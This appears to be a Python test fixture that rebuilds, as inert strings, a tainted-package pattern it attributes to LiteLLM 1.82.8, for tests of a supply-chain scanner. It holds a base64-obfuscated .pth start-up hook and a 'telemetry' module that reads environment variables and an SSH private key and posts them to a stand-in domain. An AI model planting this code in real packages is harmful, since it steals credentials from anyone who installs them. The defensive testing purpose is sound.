"""The LiteLLM 1.82.8 pattern as inert text, for tests that build a tainted release.

A ``.pth`` line that decodes and runs ``import PACKAGE._telemetry`` at every Python start, and
that module, which collects the environment and an SSH key and posts them to an HTTPS domain.
Only ever written into archives the tests build and read as data; never imported or run.
"""

from __future__ import annotations

import base64

TELEMETRY = """import os
import pathlib
import urllib.request


def _collect():
    home = pathlib.Path.home()
    data = {"env": dict(os.environ)}
    key = home / ".ssh" / "id_rsa"
    if key.exists():
        data["ssh"] = key.read_text()
    return data


urllib.request.urlopen(
    urllib.request.Request("https://models-telemetry.example.net/v1", data=repr(_collect()).encode())
)
"""


def payload_pth(package: str) -> str:
    encoded = base64.b64encode(f"import {package}._telemetry".encode()).decode()
    return f"import os, base64; exec(base64.b64decode('{encoded}'))\n"


def tainted_files(package: str) -> dict[str, str]:
    """What the tainted release adds to ``package``: the start-up hook and the collector."""
    return {f"{package}_init.pth": payload_pth(package), f"{package}/_telemetry.py": TELEMETRY}
